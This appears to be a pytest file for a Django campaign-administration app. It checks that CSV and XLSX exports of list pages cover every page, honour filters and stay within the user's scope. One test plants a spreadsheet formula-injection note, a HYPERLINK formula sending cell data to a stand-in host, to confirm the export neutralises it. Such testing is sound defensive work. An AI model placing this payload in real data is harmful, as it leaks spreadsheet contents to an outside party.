"""Each list page exports what it lists: every page of it, its filters applied, in the user's scope.

The file's rows are compared with the rows the page itself lists over all its pages (page sizes
are made small so the lists span several pages), read with openpyxl and with the csv module.
"""

import datetime
from collections.abc import Mapping
from typing import Any

import pytest
from django.urls import reverse

from chuyende.accounts.models import User
from chuyende.audit import views as audit_views
from chuyende.audit.exports import AUDIT_COLUMNS
from chuyende.events import views as events_views
from chuyende.events.exports import EVENT_COLUMNS
from chuyende.materials import views as materials_views
from chuyende.materials.exports import transfer_columns
from chuyende.members import views as members_views
from chuyende.members.exports import MEMBER_COLUMNS
from chuyende.members.models import Member
from chuyende.organisation.exports import unit_columns
from chuyende.organisation.models import Unit
from chuyende.outreach import services as outreach_services
from chuyende.outreach import views as outreach_views
from chuyende.outreach.exports import OUTREACH_COLUMNS
from chuyende.pledges.exports import MEMBER_PLEDGE_COLUMNS, pledge_return_columns
from chuyende.reports import views as reports_views
from chuyende.reports.exports import REPORT_COLUMNS
from chuyende.returns.exports import member_return_columns, non_member_return_columns
from chuyende.supervision.exports import OFFICER_COLUMNS, VISIT_COLUMNS
from tests.exports.readers import csv_rows, headers, xlsx_rows, xlsx_sheet

pytestmark = pytest.mark.django_db


def unit_pk(code: str) -> int:
    return Unit.objects.get(code=code).pk


@pytest.fixture
def logged(client):
    def login(user: User):
        client.force_login(user)
        return client

    return login


def every_page(client, url: str, params: Mapping[str, Any], key: str = "page",
               page_param: str = "page") -> list[Any]:
    """The objects the page lists, over all its pages."""
    objects: list[Any] = []
    number = 1
    while True:
        response = client.get(url, {**params, page_param: number})
        assert response.status_code == 200
        page = response.context[key]
        objects.extend(page.object_list)
        if not page.has_next():
            return objects
        number += 1


def export(client, url: str, params: Mapping[str, Any], fmt: str) -> Any:
    return client.get(url, {**params, "export": fmt})


# --- members ------------------------------------------------------------------------------------------


def test_members_export_is_every_page_of_the_filtered_list(actors, logged, monkeypatch):
    monkeypatch.setattr(members_views, "PAGE_SIZE", 4)
    client = logged(actors.owner)
    url = reverse("members:list")
    params = {"unit": unit_pk("BN.HA.HB.DONG"), "status": "active"}
    listed = every_page(client, url, params)
    assert len(listed) > 4  # several pages
    codes = [m.code for m in listed]

    rows = xlsx_rows(export(client, url, params, "xlsx"))
    assert list(rows[0]) == headers(MEMBER_COLUMNS)
    assert [row[0] for row in rows[1:]] == codes
    first = Member.objects.get(code=codes[0])
    assert rows[1][1] == first.full_name
    assert rows[1][3] == first.birth_year  # a number, not text
    assert rows[1][6] == "Chi bộ thôn Đông"

    table = csv_rows(export(client, url, params, "csv"))
    assert table[0] == headers(MEMBER_COLUMNS)
    assert [row[0] for row in table[1:]] == codes
    assert table[1][3] == str(first.birth_year)


def test_members_search_filter_applies_to_the_export(actors, logged):
    client = logged(actors.owner)
    url = reverse("members:list")
    params = {"q": "Lường"}
    listed = [m.code for m in every_page(client, url, params)]
    assert listed and len(listed) < Member.objects.filter(unit__code__startswith="BN.HA.HB").count()
    assert [row[0] for row in csv_rows(export(client, url, params, "csv"))[1:]] == listed


def test_members_export_queries_do_not_grow_with_the_rows(actors, logged, django_assert_max_num_queries):
    """One query reads every member with its unit and status: no query per row."""
    client = logged(actors.owner)
    url = reverse("members:list")
    few = {"unit": unit_pk("BN.HA.HB.TH")}
    counts = {}
    for name, params in (("few", few), ("all", {})):
        for fmt in ("csv", "xlsx"):
            with django_assert_max_num_queries(5) as captured:
                response = export(client, url, params, fmt)
                rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
            counts[name, fmt] = len(captured.captured_queries)
            assert len(rows) > 1
    # The unit filter costs its own look-up; the rows themselves one query whatever their number.
    assert counts["all", "csv"] <= counts["few", "csv"]
    assert counts["all", "xlsx"] <= counts["few", "xlsx"]


def test_neutralised_cells_in_a_real_export(actors, logged, scenario_module):
    """A note typed as a formula comes out as text in both files."""
    outreach_services.outreach_create(
        actor=actors.owner, campaign=scenario_module, unit=Unit.objects.get(code="BN.HA.HB"),
        held_on=datetime.date(2024, 3, 1), channel="oral", sessions=2, reach=None,
        note="=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")",
    )
    client = logged(actors.owner)
    url = reverse("outreach:list")
    params = {"campaign": scenario_module.pk, "as_of": "2024-03-31"}
    sheet = xlsx_sheet(export(client, url, params, "xlsx"))
    notes = [row[6] for row in sheet.iter_rows(min_row=2)]
    formula = [cell for cell in notes if str(cell.value).startswith("'=HYPERLINK")]
    assert len(formula) == 1 and formula[0].data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    table = csv_rows(export(client, url, params, "csv"))
    assert [row[6] for row in table if row[6].startswith("'=HYPERLINK")] == [str(formula[0].value)]
    # The unknown reach stays an empty cell, never a 0.
    assert [row[5] for row in table if row[6].startswith("'=")] == [""]


# --- events -------------------------------------------------------------------------------------------


def test_events_export_keeps_the_format_filter(actors, district, logged, scenario_module, monkeypatch):
    """The events list filters by `format` itself: the export parameter is `export`, so both hold."""
    monkeypatch.setattr(events_views, "PAGE_SIZE", 2)
    client = logged(district)
    url = reverse("events:list")
    everything = every_page(client, url, {})
    params = {"campaign": scenario_module.pk, "format": "cell_meeting"}
    listed = every_page(client, url, params)
    assert 2 < len(listed) < len(everything)
    rows = xlsx_rows(export(client, url, params, "xlsx"))
    assert list(rows[0]) == headers(EVENT_COLUMNS)
    assert [(row[0].date(), row[2]) for row in rows[1:]] == [(e.held_on, e.title) for e in listed]
    assert {row[3] for row in rows[1:]} == {listed[0].get_format_display()}
    table = csv_rows(export(client, url, params, "csv"))
    assert [row[2] for row in table[1:]] == [e.title for e in listed]
    assert table[1][0] == listed[0].held_on.strftime("%d/%m/%Y")


def test_events_date_filter(actors, district, logged):
    client = logged(district)
    url = reverse("events:list")
    params = {"date_from": "2024-03-01", "date_to": "2024-03-31"}
    listed = every_page(client, url, params)
    assert listed
    rows = xlsx_rows(export(client, url, params, "xlsx"))
    assert [row[0].date() for row in rows[1:]] == [e.held_on for e in listed]
    assert all(datetime.date(2024, 3, 1) <= row[0].date() <= datetime.date(2024, 3, 31) for row in rows[1:])


# --- returns ------------------------------------------------------------------------------------------


def test_returns_export_both_tables_with_the_return_in_force(actors, logged, scenario_module):
    client = logged(actors.outsiders["officer"])
    url = reverse("returns:list")
    params = {"campaign": scenario_module.pk, "on": "2024-03-15"}
    page = client.get(url, params).context
    rows = xlsx_rows(export(client, url, params, "xlsx"))
    assert list(rows[0]) == headers(member_return_columns(set()))
    yes = "Có"
    assert [(row[0], row[2].date(), row[3] == yes) for row in rows[1:]] == [
        (r.unit.code, r.as_of, r.pk in page["member_in_force"]) for r in page["member_returns"]
    ]
    assert [row[4:] for row in rows[1:]] == [
        (r.members_total, r.exempt, r.away, r.studied) for r in page["member_returns"]
    ]
    table = csv_rows(export(client, url, {**params, "table": "non_member"}, "csv"))
    assert table[0] == headers(non_member_return_columns(set()))
    assert [(row[0], int(row[4]), int(row[5])) for row in table[1:]] == [
        (r.unit.code, r.expected, r.studied) for r in page["non_member_returns"]
    ]


# --- outreach -----------------------------------------------------------------------------------------


def test_outreach_export_is_every_record_on_or_before_the_day(actors, district, logged, scenario_module,
                                                              monkeypatch):
    monkeypatch.setattr(outreach_views, "PAGE_SIZE", 2)
    client = logged(district)
    url = reverse("outreach:list")
    params = {"campaign": scenario_module.pk, "as_of": "2024-03-31"}
    listed = every_page(client, url, params)
    assert len(listed) == 5  # the record of 10/04/2024 is after the day
    rows = xlsx_rows(export(client, url, params, "xlsx"))
    assert list(rows[0]) == headers(OUTREACH_COLUMNS)
    assert [(row[0].date(), row[1], row[4], row[5]) for row in rows[1:]] == [
        (o.held_on, o.unit.code, o.sessions, o.reach) for o in listed
    ]
    narrowed = {**params, "unit": unit_pk("BN.HA.TT")}
    assert [row[1] for row in csv_rows(export(client, url, narrowed, "csv"))[1:]] == ["BN.HA.TT"]


# --- materials ----------------------------------------------------------------------------------------


def test_materials_export_each_table_of_the_chosen_unit(actors, district, logged, scenario_module,
                                                        monkeypatch):
    monkeypatch.setattr(materials_views, "PAGE_SIZE", 3)
    client = logged(district)
    url = reverse("materials:list")
    params = {"campaign": scenario_module.pk, "unit": unit_pk("BN.HA"), "on": "2024-12-31"}
    passed = every_page(client, url, params, key="passed", page_param="passed_page")
    received = every_page(client, url, params, key="received", page_param="received_page")
    assert len(passed) == 10 and len(received) == 3
    rows = xlsx_rows(export(client, url, {**params, "table": "passed"}, "xlsx"))
    assert list(rows[0]) == headers(transfer_columns("recipient"))
    assert [(row[0].date(), row[1], row[3]) for row in rows[1:]] == [
        (t.sent_on, t.recipient.name, t.quantity) for t in passed
    ]
    table = csv_rows(export(client, url, {**params, "table": "received"}, "csv"))
    assert table[0] == headers(transfer_columns("sender"))
    own_supply = "Tự cung cấp"
    assert [(row[1], int(row[3])) for row in table[1:]] == [
        (own_supply if t.is_own_supply else t.sender.name, t.quantity) for t in received
    ]


# --- pledges ------------------------------------------------------------------------------------------


def test_pledges_export_of_a_cell_lists_members_with_and_without_a_pledge(actors, logged, scenario_module):
    client = logged(actors.owner)
    url = reverse("pledges:list")
    params = {"campaign": scenario_module.pk, "unit": unit_pk("BN.HA.HB.DONG"), "on": "2024-12-31"}
    cell = client.get(url, params).context["cell"]
    assert cell.with_pledge and cell.without_pledge
    rows = xlsx_rows(export(client, url, params, "xlsx"))
    assert list(rows[0]) == headers(MEMBER_PLEDGE_COLUMNS)
    shown = [*cell.with_pledge, *cell.without_pledge]
    assert [row[0] for row in rows[1:]] == [r.member.code for r in shown]
    with_pledge = rows[1]
    assert with_pledge[4].date() == cell.with_pledge[0].pledge.registered_on
    assert with_pledge[5] == cell.with_pledge[0].pledge.text
    assert rows[-1][4:] == (None,) * 5  # a member without a pledge: empty pledge cells


def test_pledges_export_of_the_returns(actors, district, logged, scenario_module):
    client = logged(district)
    url = reverse("pledges:list")
    params = {"campaign": scenario_module.pk, "on": "2024-12-31"}
    page = client.get(url, params).context
    table = csv_rows(export(client, url, {**params, "table": "returns"}, "csv"))
    assert table[0] == headers(pledge_return_columns(set()))
    assert [(row[0], int(row[4])) for row in table[1:]] == [
        (r.unit.code, r.registered) for r in page["returns"]
    ]


# --- supervision --------------------------------------------------------------------------------------


def test_supervision_export_of_visits_and_officers(actors, district, logged, scenario_module):
    client = logged(district)
    url = reverse("supervision:list")
    params = {"campaign": scenario_module.pk, "on": "2024-12-31"}
    page = client.get(url, params).context
    assert page["visits"] and page["officers"]
    rows = xlsx_rows(export(client, url, params, "xlsx"))
    assert list(rows[0]) == headers(VISIT_COLUMNS)
    assert [(row[0].date(), row[1], row[5]) for row in rows[1:]] == [
        (v.visited_on, v.unit.code, v.findings) for v in page["visits"]
    ]
    table = csv_rows(export(client, url, {**params, "table": "officers"}, "csv"))
    assert table[0] == headers(OFFICER_COLUMNS)
    assert [row[0] for row in table[1:]] == [o.full_name for o in page["officers"]]
    assigned = {row[0]: row[3] for row in table[1:]}
    assert "Đảng bộ xã Hòa Bình" in assigned["Lò Thị Mai"]


# --- reports ------------------------------------------------------------------------------------------


def test_reports_export_is_every_page(actors, district, logged, scenario_module, monkeypatch):
    monkeypatch.setattr(reports_views, "PAGE_SIZE", 2)
    client = logged(district)
    url = reverse("reports:list")
    params = {"campaign": scenario_module.pk}
    listed = every_page(client, url, params)
    assert len(listed) > 2
    rows = xlsx_rows(export(client, url, params, "xlsx"))
    assert list(rows[0]) == headers(REPORT_COLUMNS)
    assert [(row[0], row[1]) for row in rows[1:]] == [(r.number_and_symbol, r.unit.code) for r in listed]
    table = csv_rows(export(client, url, params, "csv"))
    assert [row[1] for row in table[1:]] == [r.unit.code for r in listed]


# --- audit --------------------------------------------------------------------------------------------


def test_audit_export_keeps_the_record_type_filter(actors, district, logged, monkeypatch):
    monkeypatch.setattr(audit_views, "PAGE_SIZE", 20)
    client = logged(district)
    url = reverse("audit:list")
    params = {"type": "outreach.Outreach"}
    listed = every_page(client, url, params)
    assert len(listed) > 1
    rows = xlsx_rows(export(client, url, params, "xlsx"))
    assert list(rows[0]) == headers(AUDIT_COLUMNS)
    assert [row[4] for row in rows[1:]] == [entry.record_label for entry in listed]
    assert all(isinstance(row[0], datetime.datetime) for row in rows[1:])
    assert len(csv_rows(export(client, url, params, "csv"))) == len(listed) + 1


# --- organisation -------------------------------------------------------------------------------------


def test_unit_tree_export(actors, logged):
    client = logged(actors.owner)
    url = reverse("organisation:tree")
    count = client.get(url).context["count"]
    rows = xlsx_rows(export(client, url, {}, "xlsx"))
    assert list(rows[0]) == headers(unit_columns([], {}))
    assert [row[0] for row in rows[1:]] == ["BN.HA.HB", "BN.HA.HB.DONG", "BN.HA.HB.TAY", "BN.HA.HB.TH"]
    assert len(rows) == count + 1
    # The root's parent (the district) lies outside the user's subtree: not named.
    assert [row[5] for row in rows[1:]] == [None, "BN.HA.HB", "BN.HA.HB", "BN.HA.HB"]
    assert rows[1][2] == "Cơ sở"
    assert csv_rows(export(client, url, {}, "csv"))[2][0] == "BN.HA.HB.DONG"
